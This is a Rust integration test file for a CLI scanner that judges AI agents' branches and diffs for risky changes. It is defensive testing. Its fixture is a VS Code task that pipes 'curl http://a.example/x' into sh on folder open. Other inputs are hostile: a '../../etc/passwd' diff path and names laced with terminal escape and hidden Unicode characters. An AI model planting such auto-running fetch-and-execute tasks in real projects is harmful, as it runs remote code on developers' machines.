//! The command line as scripts see it: shapes, exit codes, and one sentence for each bad input.

use std::path::PathBuf;
use std::process::Stdio;

use serde_json::Value;

use crate::program::Program;
use crate::world::{CLAUDE, World, snapshot};

const TASKS: &str =
    r#"{"version":"2.0.0","tasks":[{"label":"x","command":"curl http://a.example/x | sh","runOptions":{"runOn":"folderOpen"}}]}"#;

/// A repository with a dangerous and a harmless agent branch, and the program in it.
fn world() -> (World, Program) {
    let mut world = World::new();
    world.agent_branch("claude/tasks", "Describe the build", &[(".vscode/tasks.json", TASKS)]);
    world.agent_branch("claude/docs", "Explain the build", &[("docs/build.md", "# Build\n\nRun make.\n")]);
    let program = Program::new(world.path(), world.beside("home"));
    (world, program)
}

fn reports(text: &str) -> Vec<Value> {
    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

#[test]
fn scan_judges_the_queue_and_answers_with_its_code() {
    let (_world, program) = world();
    let run = program.run(&["scan", "--format", "jsonl"]);
    assert_eq!(run.code, 1, "{}", run.err);
    let reports = reports(&run.out);
    assert_eq!(reports.len(), 2);
    for report in &reports {
        assert_eq!(report["schema"], "lazaret/report/v1");
        assert_eq!(report["change"]["source"], "local");
        assert_eq!(report["provenance"]["agent"], "claude-code");
    }
    let worst = reports.iter().find(|report| report["change"]["ref"] == "claude/tasks").unwrap();
    assert_eq!(worst["risk"]["lane"], "stop");
    assert!(worst["findings"].as_array().unwrap().iter().any(|finding| finding["rule"] == "editor-task-on-open"));
}

#[test]
fn one_change_is_one_report_and_several_are_an_array() {
    let (_world, program) = world();
    let one: Value = serde_json::from_str(&program.ok(&["scan", "claude/docs", "--format", "json"])).unwrap();
    assert_eq!(one["risk"]["lane"], "clear");
    let many: Value = serde_json::from_str(&program.run(&["scan", "--format", "json"]).out).unwrap();
    assert_eq!(many.as_array().unwrap().len(), 2);
}

#[test]
fn fail_on_decides_what_counts() {
    let (_world, program) = world();
    for (threshold, code) in [("critical", 1), ("info", 1), ("never", 0)] {
        assert_eq!(program.run(&["scan", "claude/tasks", "--fail-on", threshold]).code, code, "{threshold}");
    }
    assert_eq!(program.run(&["scan", "claude/docs", "--fail-on", "info"]).code, 0);
}

#[test]
fn rules_can_be_chosen_and_left_out() {
    let (_world, program) = world();
    assert_eq!(program.run(&["scan", "claude/tasks", "--rule", "hidden-unicode"]).code, 0);
    let without = program.run(&["scan", "claude/tasks", "--skip-rule", "editor-task-on-open", "--format", "json"]);
    assert!(!without.out.contains("editor-task-on-open"));
    program.fails(&["scan", "--rule", "no-such-rule"], "no rule is called 'no-such-rule'");
    program.fails(&["list", "--skip-rule", "nor-this"], "`lazaret rules list` names them all");
    program.fails(&["rules", "explain", "nor-this"], "no rule is called 'nor-this'");
}

#[test]
fn every_commit_of_a_range_or_list_is_a_change_of_its_own() {
    let (mut world, program) = world();
    let begin = world.id("main");
    let ids: Vec<String> = (0..3)
        .map(|i| {
            world.write("notes.txt", format!("{i}\n"));
            world.commit_as(CLAUDE, &format!("Note {i}"))
        })
        .collect();
    let heads = |run: &str| reports(run).iter().map(|report| report["change"]["head"].as_str().unwrap().to_owned()).collect::<Vec<_>>();
    let mut each = heads(&program.ok(&["scan", "--each-commit", &format!("{begin}..main"), "--format", "jsonl"]));
    let mut expected = ids.clone();
    each.sort();
    expected.sort();
    assert_eq!(each, expected);
    let list = format!("# chosen\n{}\n\n{}\n", ids[2], ids[0]);
    let named = program.fed(&["scan", "--commits", "-", "--format", "jsonl"], list.clone());
    assert_eq!(heads(&named.out), [ids[2].clone(), ids[0].clone()]);
    world.write("list", list);
    assert_eq!(heads(&program.ok(&["scan", "--commits", "list", "--format", "jsonl"])).len(), 2);
}

#[test]
fn a_diff_a_mailbox_and_a_folder_are_judged_without_a_repository() {
    let (world, _) = world();
    let elsewhere = tempfile::tempdir().unwrap();
    let program = Program::new(elsewhere.path(), world.beside("home"));
    let diff = world.git(&["diff", "main", "claude/tasks"]) + "\n";
    let file = elsewhere.path().join("change.diff");
    std::fs::write(&file, &diff).unwrap();
    let mailbox = elsewhere.path().join("patches");
    std::fs::write(&mailbox, world.git(&["format-patch", "--stdout", "main..claude/tasks"]) + "\n").unwrap();
    let report = |run: crate::program::Run| {
        assert_eq!(run.code, 1, "{}", run.err);
        serde_json::from_str::<Value>(&run.out).unwrap()
    };
    let json = ["--format", "json"];
    for args in [&["scan", "-"] as &[&str], &["scan", "--diff", "-"]] {
        let report = report(program.fed(&[args, &json].concat(), diff.clone()));
        assert_eq!((report["change"]["source"].as_str(), report["risk"]["lane"].as_str()), (Some("patch"), Some("stop")));
    }
    for args in [&["scan", "change.diff"] as &[&str], &["scan", "--diff", "change.diff"], &["scan", "--diff", "patches"]] {
        assert_eq!(report(program.run(&[args, &json].concat()))["risk"]["lane"], "stop", "{args:?}");
    }
    let folder = elsewhere.path().join("folder/.vscode");
    std::fs::create_dir_all(&folder).unwrap();
    std::fs::write(folder.join("tasks.json"), TASKS).unwrap();
    let tree = report(program.run(&["scan", "--tree", "folder", "--format", "json"]));
    assert_eq!((tree["change"]["source"].as_str(), tree["risk"]["lane"].as_str()), (Some("tree"), Some("stop")));
}

#[test]
fn diffs_that_are_none_or_hostile_are_told_and_never_slow() {
    let elsewhere = tempfile::tempdir().unwrap();
    let program = Program::new(elsewhere.path(), elsewhere.path().join("home"));
    for bytes in [b"hello\n".to_vec(), (0..=255).cycle().take(100_000).collect()] {
        program.fed(&["scan", "-"], bytes).is_failure("no unified diff");
    }
    program.fails(&["scan", "--diff", "missing.diff"], "missing.diff");
    program.fails(&["scan", "--tree", "missing"], "missing");
    program.fails(&["scan", "--tree", ".", "--diff", "-"], "exclude each other");
    program.fails(&["scan", "acme/harbour#7"], "acme/harbour#7");

    let head = |path: &str| format!("diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n");
    let cut = program.fed(&["scan", "-", "--format", "json"], head("a.py") + "@@ -1,3 +1,40 @@\n x\n+y\n");
    let cut: Value = serde_json::from_str(&cut.out).unwrap();
    assert!(!cut["skipped"].as_array().unwrap().is_empty(), "what is cut off is listed: {cut}");

    let out = program.fed(&["scan", "-"], head("../../etc/passwd") + "@@ -1 +1 @@\n-a\n+b\u{0}c\n");
    assert!(out.code == 0 && out.out.contains("../../etc/passwd: ") && !out.out.contains('\0'), "{}{}", out.out, out.err);

    let long = head("x.js") + "@@ -1 +1 @@\n-a\n+" + &"let a = 1; ".repeat(20 * 1024 * 1024 / 11) + "\n";
    let began = std::time::Instant::now();
    let run = program.fed(&["scan", "-"], long);
    assert!(run.code <= 1 && run.out.contains("not looked at"), "{}{}", run.out.get(..500).unwrap_or(""), run.err);
    assert!(began.elapsed().as_secs() < 20, "{:?}", began.elapsed());
}

#[test]
fn a_repository_elsewhere_is_named() {
    let (world, _) = world();
    let elsewhere = tempfile::tempdir().unwrap();
    let program = Program::new(elsewhere.path(), world.beside("home"));
    let repo = world.path().display().to_string();
    assert_eq!(program.run(&["scan", "--repo", &repo, "claude/tasks"]).code, 1);
    assert_eq!(program.run(&["scan", &repo]).code, 1);
    assert!(program.ok(&["list", &repo]).contains("claude/tasks"));
}

#[test]
fn sarif_and_markdown_come_whole() {
    let (_world, program) = world();
    let sarif: Value = serde_json::from_str(&program.run(&["scan", "--format", "sarif"]).out).unwrap();
    assert_eq!(sarif["version"], "2.1.0");
    assert!(!sarif["runs"][0]["results"].as_array().unwrap().is_empty());
    assert!(program.run(&["scan", "claude/tasks", "--format", "markdown"]).out.starts_with("## stop"));
}

#[test]
fn the_queue_is_sorted_and_filtered() {
    let (_world, program) = world();
    let table = program.ok(&["list"]);
    let lines: Vec<&str> = table.lines().collect();
    assert!(lines[0].starts_with("LANE") && lines[1].starts_with("stop") && lines[2].starts_with("clear"), "{table}");
    let queue: Value = serde_json::from_str(&program.ok(&["list", "--format", "json", "--filter", "risk>=high agent:claude"])).unwrap();
    assert_eq!(queue["schema"], "lazaret/queue/v1");
    assert_eq!(queue["pulls"].as_array().unwrap().len(), 1);
    assert_eq!(queue["pulls"][0]["judgement"]["lane"], "stop");
    assert_eq!(program.ok(&["list", "--format", "jsonl", "--filter", "-lane:stop"]).lines().count(), 1);
    let nonsense = program.run(&["list", "--filter", "colour:red"]);
    assert_eq!(nonsense.code, 2);
    assert!(nonsense.err.contains("the filter does not know 'colour:red'"), "{}", nonsense.err);
}

#[test]
fn the_demo_needs_nothing_and_leaves_nothing() {
    let empty = tempfile::tempdir().unwrap();
    let program = Program::new(empty.path(), empty.path().join("home"));
    let table = program.ok(&["demo"]);
    assert!(table.lines().count() > 60 && table.contains("demo#2"), "{table}");
    let one: Value = serde_json::from_str(&program.run(&["scan", "demo#2", "--format", "json"]).out).unwrap();
    assert_eq!(one["change"]["ref"], "demo#2");
    assert_eq!(one["risk"]["lane"], "stop");
    program.fails(&["scan", "demo#99"], "the demo has no pull #99");
    assert_eq!(snapshot(empty.path()), [], "nothing was written where it ran");
}

#[test]
fn no_repository_is_said_in_one_sentence() {
    let empty = tempfile::tempdir().unwrap();
    let program = Program::new(empty.path(), empty.path().join("home"));
    for args in [&["list"] as &[&str], &["scan"], &["scan", "main"], &["quarantine", "x", "-m", "y", "--yes"], &["hook", "status"]] {
        program.fails(args, "repository");
    }
    program.fails(&["scan", "--repo", "/nowhere/at/all"], "/nowhere/at/all");
}

#[test]
fn an_empty_repository_and_unknown_names_are_told() {
    let empty = World::empty();
    let program = Program::new(empty.path(), empty.beside("home"));
    program.fails(&["list"], "commit");
    let (_world, program) = world();
    program.fails(&["scan", "no-such-branch"], "no-such-branch");
    program.fails(&["scan", "main..no-such-branch"], "no-such-branch");
    program.fails(&["scan", "--commits", "missing-file"], "missing-file");
    program.fails(&["approve", "no-such-branch", "--dry-run"], "no-such-branch");
    let listed = program.fed(&["scan", "--commits", "-"], "0123456789012345678901234567890123456789\n");
    listed.is_failure("0123456789");
}

#[test]
fn a_detached_head_is_no_hindrance() {
    let (world, program) = world();
    world.git(&["checkout", "-q", "--detach"]);
    assert!(program.ok(&["list"]).contains("claude/tasks"));
}

#[test]
fn a_ledger_that_is_none_is_left_alone() {
    let (world, program) = world();
    let ledger = program.home.join("data/ledger.db");
    std::fs::create_dir_all(ledger.parent().unwrap()).unwrap();
    for bytes in
        [b"this is a letter to somebody, not a database at all, and it is longer than a page header: keep it".to_vec(), vec![0; 4096]]
    {
        std::fs::write(&ledger, &bytes).unwrap();
        program.fails(&["ledger", "list"], "ledger.db");
        program.fails(&["ledger", "verify"], "ledger.db");
        program.fails(&["quarantine", "claude/tasks", "-m", "x", "--yes"], "ledger.db");
        assert_eq!(std::fs::read(&ledger).unwrap(), bytes, "it is as it was");
        assert!(world.try_git(&["rev-parse", "--verify", "claude/tasks"]).status.success());
        assert_eq!(program.run(&["doctor"]).code, 1);
    }
    assert_eq!(program.run(&["scan", "claude/docs"]).code, 0, "judging needs no ledger");
}

#[test]
fn settings_with_a_mistake_name_their_line() {
    let (_world, program) = world();
    let file = program.home.join("config/settings.toml");
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    std::fs::write(&file, "theme = \"dark\"\nlayuot = \"split\"\n").unwrap();
    program.fails(&["config", "show"], "settings.toml:2");
    std::fs::write(&file, "layout = \"split\"\n").unwrap();
    assert!(program.ok(&["config", "show"]).contains("layout = \"split\""));
    assert!(program.ok(&["config", "keys"]).contains("quarantine"));
    assert!(program.ok(&["config", "default", "keymap"]).contains("[") && program.ok(&["config", "path"]).contains("ledger.db"));
}

#[test]
fn a_reader_that_goes_away_is_no_mistake() {
    let (_world, program) = world();
    let inner = program.command(&["config", "default", "keymap"]);
    let mut command = std::process::Command::new(inner.get_program());
    command.args(inner.get_args()).env("LAZARET_HOME", &program.home);
    let mut child = command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    drop(child.stdout.take());
    let output = child.wait_with_output().unwrap();
    assert_eq!(output.status.code(), Some(0));
    assert_eq!(String::from_utf8_lossy(&output.stderr), "");
}

#[test]
fn an_interrupted_run_answers_with_130() {
    let (_world, program) = world();
    let inner = program.command(&["scan", "-"]);
    let mut command = std::process::Command::new(inner.get_program());
    command.args(inner.get_args()).env("LAZARET_HOME", &program.home);
    let mut child = command.stdin(Stdio::piped()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
    std::thread::sleep(std::time::Duration::from_millis(700));
    let id = child.id().to_string();
    assert!(std::process::Command::new("kill").args(["-INT", &id]).status().unwrap().success());
    assert_eq!(child.wait().unwrap().code(), Some(130), "even while it waits for its input");
}

#[test]
fn colours_are_for_terminals_unless_forced() {
    let (_world, program) = world();
    let run = |name: &str, value: &str| {
        let output = program.command(&["list"]).env("CLICOLOR_FORCE", "1").env(name, value).output().unwrap();
        String::from_utf8(output.stdout).unwrap().contains('\x1b')
    };
    assert!(!program.ok(&["list"]).contains('\x1b'));
    assert!(run("TERM", "xterm"));
    assert!(!run("NO_COLOR", "1"));
}

#[test]
fn hostile_names_cannot_act_on_the_terminal() {
    let mut world = World::new();
    world.agent_branch("claude/x\u{202e}gpj", "Fine \u{1b}[2J\u{1b}]0;owned\u{7}", &[("a\u{200b}b.py", "x = 1\n")]);
    let program = Program::new(world.path(), world.beside("home"));
    for args in
        [&["list"] as &[&str], &["scan"], &["scan", "--format", "json"], &["scan", "--format", "sarif"], &["scan", "--format", "markdown"]]
    {
        let run = program.run(args);
        for text in [&run.out, &run.err] {
            assert!(!text.chars().any(|c| c != '\n' && lazaret::model::inert::hidden(c).is_some()), "{args:?}: {text:?}");
        }
    }
}

#[test]
fn usage_mistakes_answer_with_two_and_help_with_nought() {
    let (_world, program) = world();
    for args in [&["scan", "--nonsense"] as &[&str], &["scan", "--format", "xml"], &["quarantine"], &["scan", "--each-commit"], &["ledger"]]
    {
        assert_eq!(program.run(args).code, 2, "{args:?}");
    }
    for args in
        [&["--help"] as &[&str], &["--version"], &["scan", "--help"], &["man"], &["man", "ledger", "verify"], &["completions", "zsh"]]
    {
        let run = program.run(args);
        assert!(run.code == 0 && run.out.len() > 10 && run.err.is_empty(), "{args:?}");
    }
    program.fails(&["man", "nonsense"], "there is no command 'nonsense'");
    program.fails(&[], "the console needs a terminal");
}

#[test]
fn rules_are_listed_explained_and_proven() {
    let (_world, program) = world();
    assert!(program.ok(&["rules", "list"]).contains("editor-task-on-open"));
    let all: Value = serde_json::from_str(&program.ok(&["rules", "list", "--format", "json"])).unwrap();
    assert!(all.as_array().unwrap().iter().all(|rule| !rule["why"].as_str().unwrap().is_empty()));
    let explained = program.ok(&["rules", "explain", "hidden-unicode"]);
    assert!(explained.contains("fires on") && explained.contains("does not fire on") && explained.contains("CWE-1007"));
    assert!(program.ok(&["rules", "test", "hidden-unicode"]).ends_with("0 do not\n"));
}

#[test]
fn reading_never_writes() {
    let (world, program) = world();
    let before = (snapshot(&world.path()), world.git(&["for-each-ref"]), world.git(&["count-objects"]));
    for args in [&["ledger", "list"] as &[&str], &["ledger", "verify"], &["evidence", "list"], &["doctor"], &["hook", "status"]] {
        program.run(args);
    }
    assert!(!program.home.exists(), "looking makes no folders");
    program.run(&["list"]);
    program.run(&["scan"]);
    assert_eq!(before, (snapshot(&world.path()), world.git(&["for-each-ref"]), world.git(&["count-objects"])));
    let kept: Vec<PathBuf> = snapshot(&program.home).into_iter().map(|(path, _)| path).collect();
    assert_eq!(kept, [program.home.join("state/observations.db")], "judging is remembered, and nothing else is written");
}

/// Outside of any repository, whoever forgets a number or where a block belongs is told how it is written.
#[test]
fn a_target_of_a_forge_that_is_half_named_is_told_how_it_is_written() {
    let folder = tempfile::tempdir().unwrap();
    let program = Program::new(folder.path(), folder.path().join("home"));
    for target in ["acme/api", "acme/api#0", "acme/api#-1"] {
        program.run(&["approve", target, "--dry-run"]).is_failure("a pull of a GitHub host is written OWNER/REPO#7");
    }
    program.run(&["block", "devin", "--reason", "ran amok", "--dry-run"]).is_failure("give --at OWNER/REPO");
}
